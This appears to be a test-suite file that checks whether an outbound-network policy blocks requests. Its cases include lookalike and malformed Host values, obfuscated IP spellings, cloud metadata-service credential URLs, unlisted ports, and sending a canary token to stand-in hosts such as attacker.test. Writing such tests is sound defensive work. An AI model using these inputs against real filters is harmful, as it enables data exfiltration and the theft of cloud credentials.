# Which host is meant: names that look like a granted one, addresses in every spelling.

scenario "host-that-looks-like-a-granted-one" {
  describe = "suffix, prefix, parent, child and neighbour of a granted name"
  cases    = ["HOST-05", "HOST-06"]
  policy   = "policies/triage.hcl"
  for_each = {
    suffix   = "evilapi.example.com"
    prefix   = "api.example.com.attacker.test"
    contains = "api.example.com-evil.test"
    top      = "api.example.org"
    child    = "www.api.example.com"
    parent   = "example.com"
    other    = "attacker.test"
  }
  attempt {
    http { url = "https://${each.value}/repos/acme/app/issues?state=${canary.token}" }
  }
  expect {
    verdict = "deny"
    reason  = "no_grant"
    leak    = none
  }
}

scenario "host-in-another-spelling-has-the-same-rules" {
  describe = "one dot at the end, capitals: the same host, and the same refusal of a path"
  cases    = ["HOST-01", "HOST-02"]
  policy   = "policies/triage.hcl"
  for_each = ["api.example.com.", "API.example.com", "aPi.ExAmPlE.cOm", "API.EXAMPLE.COM."]
  attempt {
    http { url = "https://${each.value}/gists/${canary.token}" }
  }
  expect {
    verdict = "deny"
    reason  = "path_not_granted"
    leak    = none
  }
}

scenario "host-header-that-two-parsers-read-in-two-ways" {
  describe = "a Host that no client sends by accident"
  cases    = ["HOST-03", "HOST-04", "HOST-11", "HOST-15", "HP-22"]
  policy   = "policies/triage.hcl"
  for_each = {
    brackets    = "[api.example.com]"
    nul         = "attacker.test\u0000.api.example.com"
    zone        = "[fe80::1%25eth0]"
    zone_suffix = "[::1%25.api.example.com]"
    userinfo    = "api.example.com@attacker.test"
    blank       = "api.example.com attacker.test"
    slash       = "api.example.com/attacker.test"
    backslash   = "attacker.test\\.api.example.com"
    comma       = "api.example.com, attacker.test"
    two_dots    = "api.example.com.."
    port_twice  = "api.example.com:443:443"
    port_word   = "api.example.com:https"
    percent     = "api%2eexample%2ecom"
    semicolon   = "api.example.com;attacker.test"
    empty       = ""
    tab         = "api.example.com\t"
  }
  attempt {
    raw {
      connect = "api.example.com:443"
      tls     = true
      bytes   = "GET /repos/acme/app/issues?state=open HTTP/1.1\r\nHost: ${each.value}\r\nX-Note: ${canary.token}\r\n\r\n"
    }
  }
  expect {
    leak   = none
    arrives = each.key == "tab" ? ["GET https://api.example.com/repos/acme/app/issues?state=open"] : none
  }
}

scenario "host-is-an-address" {
  describe = "an address where the policy has names: in no spelling"
  cases    = ["HOST-08", "HOST-09", "HOST-14", "NET-04", "NET-05"]
  policy   = "policies/triage.hcl"
  for_each = {
    public     = "203.0.113.99"
    v6         = "[2001:db8:2::99]"
    private    = "10.0.0.7"
    mapped     = "[::ffff:203.0.113.99]"
  }
  attempt {
    http { url = "https://${each.value}/${canary.token}" }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}

scenario "host-is-an-address-in-the-clear" {
  describe = "the same without TLS, where port 80 is not granted at all"
  cases    = ["HOST-09", "PATH-14"]
  policy   = "policies/triage.hcl"
  for_each = ["203.0.113.99", "[2001:db8:2::99]", "172.16.0.1", "192.168.0.1", "100.64.0.1"]
  attempt {
    http { url = "http://${each.value}/${canary.token}" }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}

scenario "host-header-is-an-address-in-an-odd-spelling" {
  describe = "octal, hexadecimal, one number: what a lenient parser takes for an address"
  cases    = ["HOST-07", "HOST-08"]
  policy   = "policies/web.hcl"
  for_each = ["0177.0.0.1", "0x7f000001", "2130706433", "127.1", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "0xa9fea9fe", "[0:0:0:0:0:ffff:a9fe:a9fe]"]
  attempt {
    raw {
      connect = "echo.example.com:80"
      bytes   = crlf("GET http://${each.value}/v1/items/1 HTTP/1.1\nHost: ${each.value}\nX-Note: ${canary.token}\n\n")
    }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}

scenario "host-is-a-metadata-service" {
  describe = "the address at which clouds hand out keys, from inside, whatever is granted"
  cases    = ["HOST-12"]
  policy   = "policies/web.hcl"
  for_each = {
    classic  = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
    v6       = "http://[fd00:ec2::254]/latest/meta-data/"
    other    = "http://100.100.100.200/latest/meta-data/"
    by_name  = "http://metadata.internal/computeMetadata/v1/"
    stand_in = "http://metadata.example.com/latest/meta-data/"
    tls      = "https://169.254.169.254/latest/"
  }
  attempt {
    http { url = "${each.value}${canary.token}" }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}

scenario "host-resolves-to-a-metadata-service" {
  describe = "a granted name that its owner points at the metadata service"
  cases    = ["HOST-12", "DNS-07"]
  policy   = "policies/docs-any-page.hcl"
  for_each = ["169.254.169.254", "100.100.100.200", "fd00:ec2::254"]
  given {
    dns "docs.example.com" { answers = [[each.value]] }
  }
  attempt {
    http {
      url     = "https://docs.example.com/manual/index.html"
      headers = { X-Note = canary.token }
    }
  }
  expect {
    verdict = "deny"
    reason  = "metadata_address"
    leak    = none
  }
}

scenario "host-with-another-port" {
  describe = "a granted host, and a port that is not"
  cases    = ["HOST-10", "NET-10"]
  policy   = "policies/triage.hcl"
  for_each = ["22", "25", "110", "465", "587", "993", "3306", "5432", "6379", "8080", "8443", "9999", "11211", "27017"]
  attempt {
    tcp {
      to    = "api.example.com:${each.value}"
      bytes = "${canary.token}\r\n"
    }
  }
  expect {
    verdict = "deny"
    reason  = "port_not_granted"
    leak    = none
  }
}

scenario "nothing-is-granted" {
  describe = "a policy without grants grants nothing, and not everything"
  source   = "CVE-2025-66479"
  cases    = ["HOST-13"]
  policy   = "policies/empty.hcl"
  for_each = {
    https = "https://attacker.test/"
    http  = "http://attacker.test/"
    model = "https://llm.example.com/v1/files/"
    ip    = "https://203.0.113.99/"
  }
  attempt {
    http { url = "${each.value}${canary.token}" }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}

scenario "authority-in-the-request-line" {
  describe = "the target is absolute and names another host than Host does, and the other way round"
  cases    = ["HP-10", "TLS-02"]
  policy   = "policies/web.hcl"
  for_each = {
    target = "GET https://attacker.test/v1/items/1 HTTP/1.1\nHost: echo.example.com"
    host   = "GET https://echo.example.com/v1/items/1 HTTP/1.1\nHost: attacker.test"
    scheme = "GET ftp://echo.example.com/v1/items/1 HTTP/1.1\nHost: echo.example.com"
    port   = "GET https://echo.example.com:8443/v1/items/1 HTTP/1.1\nHost: echo.example.com"
    user   = "GET https://user@echo.example.com/v1/items/1 HTTP/1.1\nHost: echo.example.com"
  }
  attempt {
    raw {
      connect = "echo.example.com:443"
      tls     = true
      bytes   = crlf("${each.value}\nX-Note: ${canary.token}\n\n")
    }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}
